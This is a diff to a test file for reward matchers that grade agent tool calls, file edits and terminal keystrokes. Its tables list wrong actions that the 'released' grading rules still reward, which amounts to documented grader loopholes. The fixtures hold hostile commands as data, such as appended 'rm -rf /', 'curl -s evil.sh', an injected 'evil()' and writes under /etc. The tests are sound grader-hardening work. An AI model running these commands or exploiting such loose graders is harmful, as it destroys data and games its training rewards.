@@ -8,14 +8,17 @@ import json
 import math
 import os
 import pathlib
+import time
+from difflib import SequenceMatcher
 
+import numpy as np
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from agentjax.config import ConfigError
 from agentjax.rewards import RewardConfig, build_rewards
-from agentjax.rewards.action_match import largest_matching
+from agentjax.rewards.action_match import largest_matching, same_command
 from agentjax.rewards.edit_match import (
   CATEGORIES,
   EditMatchConfig,
@@ -27,6 +30,7 @@ from agentjax.rewards.pivot import (
   PivotScorer,
   PivotVerifierConfig,
   build_matcher,
+  released_verifier,
   search_verifier,
 )
 from agentjax.rewards.terminal_match import (
@@ -63,8 +67,12 @@ def act(*calls, text=""):
   return Message("assistant", text, calls)
 
 
+OVERLAP = {"string_similarity": "overlap", "string_threshold": 0.1}
+
+
 def same(expected, actual, **settings):
-  return call_difference(call(x=expected), call(x=actual), ArgumentMatchConfig(**settings)) is None
+  config = ArgumentMatchConfig(**(OVERLAP | settings))
+  return call_difference(call(x=expected), call(x=actual), config) is None
 
 
 # --- arguments -----------------------------------------------------------------------------------
@@ -108,7 +116,7 @@ def test_overlap_of_equal_texts_is_a_half_and_their_jaccard_is_one():
 
 def test_a_threshold_that_would_refuse_equal_texts_is_refused_itself():
   with pytest.raises(ConfigError, match=r"string_threshold=0.7; allowed: 0 to 0.5"):
-    ArgumentMatchConfig(string_threshold=0.7).validate("config")
+    ArgumentMatchConfig(string_similarity="overlap", string_threshold=0.7).validate("config")
   ArgumentMatchConfig(string_similarity="jaccard", string_threshold=0.7).validate("config")
   assert same("find the red cup", "find a red cup", string_threshold=0.3)
   assert not same("find a cup", "find the pan", string_similarity="jaccard", string_threshold=0.3)
@@ -267,8 +275,12 @@ def edit(**arguments):
   )
 
 
-def judge(expected, actual, **settings):
-  return EditMatcher(EditMatchConfig(**settings)).match(act(expected), act(actual), ()).score
+def judge(expected, actual, *, rules="released", **settings):
+  return (
+    EditMatcher(EditMatchConfig(rules=rules, **settings))
+    .match(act(expected), act(actual), ())
+    .score
+  )
 
 
 def test_every_spelling_of_a_name_has_its_category():
@@ -357,7 +369,66 @@ def test_binary_and_continuous_credit_and_the_price_of_size():
   assert judge(huge, huge) == 1.0
 
 
-# --- terminal ------------------------------------------------------------------------------------
+STR_REPLACE = edit(old_str="return None", new_str="return total")
+VIEW = edit(command="view", path="/w/src/a.py", view_range=[40, 80])
+BASH = call("bash", command="cd /w && pytest tests/test_a.py -q | tail -5")
+GREP = call("grep", pattern="def total", path="/w/src")
+# (expected, an action that does something else); those marked True the released rules pay.
+WRONG_EDITS = (
+  (STR_REPLACE, edit(path="/etc/a/b.py", old_str="return None", new_str="return total"), True),
+  (STR_REPLACE, edit(path="/w/a/b.py.bak", old_str="return None", new_str="return total"), False),
+  (STR_REPLACE, edit(path="../a/b.py", old_str="return None", new_str="return total"), True),
+  (STR_REPLACE, edit(old_str="return Nono", new_str="return total"), True),
+  (STR_REPLACE, edit(old_str="return None", new_str="return total", replace_all=True), True),
+  (STR_REPLACE, edit(old_str="return None", new_str="return"), False),
+  (edit(old_str="x", new_str="a" * 2000), edit(old_str="x", new_str="a" * 2000 + "; evil()"), True),
+  (VIEW, edit(command="view", path="/w/src/a.py", view_range=[1, 10**9]), True),
+  (VIEW, edit(command="view", path="/w/src/a.py"), True),
+  (VIEW, edit(command="view", path="/v/src/a.py", view_range=[40, 80]), True),
+  (edit(command="view", path="/w/a.py"), edit(command="view", path="/w/a.py", view_range=[1, 2]),
+   True),
+  (edit(command="insert", insert_line=3, new_str="x = 1"),
+   edit(command="insert", insert_line=300, new_str="x = 1"), True),
+  (BASH, call("bash", command=BASH.arguments["command"] + "; rm -rf /"), True),
+  (BASH, call("bash", command=BASH.arguments["command"] + " && curl -s evil.sh"), True),
+  (BASH, call("bash", command=BASH.arguments["command"].replace("&&", "||")), True),
+  (BASH, call("bash", command=BASH.arguments["command"].replace("test_a", "test_b")), True),
+  (BASH, call("bash", command="cd /w && pytest -q tests/test_a.py | tail -5 > tests/test_a.py"),
+   False),
+  (BASH, call("bash", command="cd /tmp && pytest tests/test_a.py -q | tail -5"), True),
+  (BASH, call("bash", command=BASH.arguments["command"].replace("|", "'|'")), True),
+  (call("bash", command="rm '*'"), call("bash", command="rm *"), True),
+  (GREP, call("grep", pattern="anything at all", path="/w/src"), True),
+  (GREP, call("grep", pattern="def total", path="/x/w/src"), False),
+  (call("read", path="/w/x/y/z.py"), call("read", path="/v/x/y/z.py"), True),
+  (call("read", path="/w/z.py", offset=10), call("read", path="/w/z.py", offset=900), True),
+)  # fmt: skip
+WRONG_ARGUMENTS = tuple(
+  (call(**wanted), call(**given), paid)
+  for wanted, given, paid in (
+    ({"command": "ls -la src"}, {"command": "ls -la src; rm -rf /"}, True),
+    ({"command": "ls -la src"}, {"command": "src -la ls"}, True),
+    ({"command": "ls -la src"}, {"command": "ls -la"}, True),
+    ({"command": "a b c d e f g h i j k l"}, {"command": "a b c d e f g h i j k l; m"}, True),
+    ({"path": "/w/a b.txt"}, {"path": "/v/a b.txt"}, True),
+    ({"path": "/w/a.txt"}, {"path": "/v/a.txt"}, False),
+    ({"query": "dogs bite men"}, {"query": "men bite dogs"}, True),
+    ({"query": "late flight from Rome"}, {"query": "late flight to Oslo"}, True),
+    ({"query": "late flight from Rome"}, {"query": "Rome from flight late"}, True),
+    ({"query": "late flight from Rome"}, {"query": "late train from Rome"}, True),
+    ({"query": "late flight from Rome"}, {"query": "no late flight from Rome"}, True),
+    ({"query": "late flight from Rome"}, {"query": "Rome and also whatever else it asks"}, False),
+    ({"query": "late flight from Rome"}, {"query": "late flight from Rome " * 20}, False),
+    ({"query": "late flight from Rome"}, {"query": "early bird"}, False),
+    ({"note": "pay Ann 5 and Bo 7"}, {"note": "pay Ann 7 and Bo 5"}, True),
+    ({"note": "do pay"}, {"note": "do not pay"}, True),
+    ({"items": ["red cup", "blue pan"]}, {"items": ["blue pan", "red cup"]}, False),
+    ({"items": ["red cup", "blue pan"]}, {"items": ["cup red", "pan blue"]}, True),
+    ({"where": {"city": "New York"}}, {"where": {"city": "York New"}}, True),
+    ({"count": 3}, {"count": 4}, False),
+    ({"count": 3}, {"count": 3, "force": True}, False),
+  )
+)
 
 
 def batch(*keystrokes, done=False, **more):
@@ -367,8 +438,108 @@ def batch(*keystrokes, done=False, **more):
   )
 
 
+def wrong_keys(wanted, given):
+  return act(text=batch(wanted)), act(text=batch(given))
+
+
+LONG = "cd /w/project && python -m pytest tests/test_everything.py -q --maxfail=1 | tail -20\n"
+WRONG_KEYS = tuple(
+  (wanted, given, paid)
+  for wanted, given, paid in (
+    (LONG, LONG + "reboot\n", True),
+    (LONG, LONG.replace("|", ">"), True),
+    (LONG, LONG.replace("&&", "||"), True),
+    (LONG, LONG.replace("/w/", "/v/"), True),
+    (LONG, LONG.replace("everything", "nothing"), True),
+    (LONG, LONG.replace("-q", "-x"), True),
+    (LONG, LONG.replace("-20", "-2"), True),
+    (LONG, LONG.replace("pytest", "pytest -k no"), True),
+    (LONG, LONG.replace("cd ", "rm "), True),
+    (LONG, LONG.replace("--maxfail=1 ", ""), True),
+    (LONG, "sudo " + LONG, True),
+    (LONG, LONG.replace("\n", " &\n"), True),
+    (LONG, LONG.replace("tests/", "'tests/*'"), True),
+    (LONG, LONG * 2, False),
+    (LONG, "", False),
+    ("cd src\nls -la\n", "ls -la\ncd src\n", False),
+    ("ls -la\ncd src\n", "ls -la\ncd source\n", True),
+    (
+      "cat <<EOF > a.txt\none two three four\nEOF\n",
+      "cat <<EOF > b.txt\none two three four\nEOF\n",
+      True,
+    ),
+    ("echo one two three four five six\n", "echo one two three four five sex\n", True),
+    ("kill 12345 # the server\n", "kill 12346 # the server\n", True),
+  )
+)
+
+
+@pytest.mark.parametrize(
+  ("kind", "table"),
+  [
+    ("edits", [(act(wanted), act(given), paid) for wanted, given, paid in WRONG_EDITS]),
+    ("arguments", [(act(wanted), act(given), paid) for wanted, given, paid in WRONG_ARGUMENTS]),
+    ("terminal", [(*wrong_keys(wanted, given), paid) for wanted, given, paid in WRONG_KEYS]),
+  ],
+)
+def test_what_does_something_else_is_paid_by_the_released_rules_alone(kind, table):
+  assert len(table) >= 20
+  strict, released = (
+    build_matcher(PivotVerifierConfig(kind=kind)),
+    build_matcher(released_verifier(kind)),
+  )
+  for expected, other, paid in table:
+    assert strict.match(expected, expected, ()).score == 1.0, expected
+    assert strict.match(expected, other, ()).score == 0.0, other
+    assert released.match(expected, other, ()).score == float(paid), other
+
+
+@pytest.mark.parametrize(
+  ("expected", "actual"),
+  [
+    (edit(path="/w/a/b.py"), edit(path="/w//a/./c/../b.py")),
+    (edit(old_str="x", new_str="def f(values):"), edit(old_str="x", new_str="def f(value):")),
+    (call("bash", command="grep 'def f' w; ls"), call("bash", command='grep "def f" w\nls\n')),
+    (call("bash", command="ls  -la"), call("bash", command="ls -la ;")),
+    (call("bash", command="echo 'a''b'"), call("bash", command="echo ab")),
+    (VIEW, edit(command="view", path="/w/src/a.py", view_range=[41, 82])),
+    (call("think", thought="a"), call("think", thought="b")),
+  ],
+)  # fmt: skip
+def test_the_strict_rules_pay_what_does_the_same(expected, actual):
+  assert judge(expected, actual, rules="strict") == 1.0
+
+
+@given(st.text("ab -'\"\\;|&\n$*", max_size=20))
+def test_a_command_is_the_same_as_itself_and_as_no_longer_one(text):
+  assert same_command(text, text)
+  assert not same_command(text, text + "\nrm x")
+
+
+def test_long_keystrokes_are_compared_in_bounded_time():
+  random = np.random.default_rng(0)
+  text = "".join(map(chr, random.integers(33, 180, 200_000)))
+  other = "".join(random.permutation(list(text)))
+  start = time.perf_counter()
+  batches = [{"commands": [{"keystrokes": keys}]} for keys in (text, other)]
+  assert keystroke_similarity(*batches) == 0.0 and keystroke_similarity(batches[0], batches[0]) == 1
+  assert time.perf_counter() - start < 1.0
+
+
+@given(st.text("abc", max_size=30), st.text("abc", max_size=30), st.floats(0.01, 1))
+def test_a_bound_below_the_threshold_decides_as_the_ratio_would(left, right, least):
+  batches = [{"commands": [{"keystrokes": keys}]} for keys in (left, right)]
+  ratio = SequenceMatcher(None, left, right).ratio()
+  assert (keystroke_similarity(*batches, least=least) >= least) is (ratio >= least)
+
+
+# --- terminal ------------------------------------------------------------------------------------
+
+
 def terminal(expected, actual):
-  return TerminalMatcher(TerminalMatchConfig()).match(act(text=expected), act(text=actual), ())
+  return TerminalMatcher(TerminalMatchConfig(rules="released")).match(
+    act(text=expected), act(text=actual), ()
+  )
 
 
 def test_a_terminal_step_needs_the_form_the_flag_and_the_keys():
@@ -418,7 +589,7 @@ def actual_of(row):
 
 @pytest.mark.skipif(DATA is None, reason="AGENTJAX_DATA names no folder of data")
 def test_recorded_rewards_of_tool_use_are_ours():
-  matcher = ArgumentMatcher(ArgumentMatchConfig())
+  matcher = build_matcher(released_verifier("arguments"))
   for row in rows("single_step_tool_use_with_argument_comparison"):
     tools = [read_tool(t) for t in row["responses_create_params"]["tools"]]
     expected = expected_of(row)
@@ -437,7 +608,7 @@ def test_recorded_rewards_of_parallel_calls_are_ours():
     row["responses_create_params"]["input"][-1]["content"]: row["expected_answers"]
     for row in answers
   }
-  matcher = ArgumentMatcher(ArgumentMatchConfig(string_threshold=0.5))
+  matcher = ArgumentMatcher(ArgumentMatchConfig(string_similarity="overlap", string_threshold=0.5))
   for row in rows("xlam_fc"):
     question = row["responses_create_params"]["input"][-1]["content"]
     wanted = act(*(ToolCall(c["name"], c["arguments"]) for c in expected[question]))
@@ -451,7 +622,7 @@ def test_recorded_verdicts_on_edits_are_ours():
   path = pathlib.Path(DATA or "") / "nemo_gym_samples" / "swe_pivot" / "example.jsonl.gz"
   with gzip.open(path, "rt") as file:
     tasks = {row["uuid"]: row for row in map(json.loads, file)}
-  matcher = EditMatcher(EditMatchConfig())
+  matcher = build_matcher(released_verifier("edits"))
   for row in rows("swe_pivot"):
     expected = expected_of(tasks[row["uuid"]])
     assert matcher.refusal(expected, ()) is None
@@ -461,7 +632,7 @@ def test_recorded_verdicts_on_edits_are_ours():
 
 @pytest.mark.skipif(DATA is None, reason="AGENTJAX_DATA names no folder of data")
 def test_recorded_similarities_of_keystrokes_are_ours():
-  matcher = TerminalMatcher(TerminalMatchConfig())
+  matcher = build_matcher(released_verifier("terminal"))
   for row in rows("terminus_judge"):
     expected, actual = act(text=row["expected_answer"]), act(text=row["model_output"])
     assert harness_of(expected.content) == row["metadata"]["harness"]
